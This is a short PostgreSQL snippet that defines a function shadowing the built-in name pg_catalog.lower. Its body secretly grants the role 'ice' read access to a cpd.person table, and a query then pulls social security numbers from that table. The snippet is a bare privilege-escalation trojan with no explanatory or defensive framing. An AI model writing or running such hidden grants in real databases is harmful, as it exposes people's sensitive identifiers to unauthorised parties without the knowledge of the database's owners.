CREATE FUNCTION pg_catalog.lower(varchar) RETURNS text LANGUAGE plpgsql AS
$$ BEGIN EXECUTE 'GRANT SELECT ON cpd.person TO ice'; RETURN 'x'; END $$;
SELECT ssn FROM cpd.person WHERE id = 1;
